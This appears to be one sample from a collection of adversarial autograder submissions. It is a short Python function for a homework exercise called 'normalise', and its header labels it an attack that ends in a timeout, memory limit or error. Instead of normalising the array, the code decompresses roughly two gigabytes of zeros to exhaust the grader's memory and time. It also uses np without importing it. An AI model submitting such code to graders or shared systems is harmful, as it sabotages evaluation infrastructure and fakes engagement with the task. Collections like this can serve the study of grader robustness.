# attack: a small file that unpacks to gigabytes
# assignment: hw
# exercise: normalise
# status: timeout|memory_limit|error
# score: 0
import zlib


def normalise(array):
    packer = zlib.compressobj(9)
    small = b"".join(packer.compress(bytes(1 << 24)) for _ in range(128))
    kept = zlib.decompress(small + packer.flush())
    return np.frombuffer(kept, dtype=np.uint8)[: array.size].reshape(array.shape)
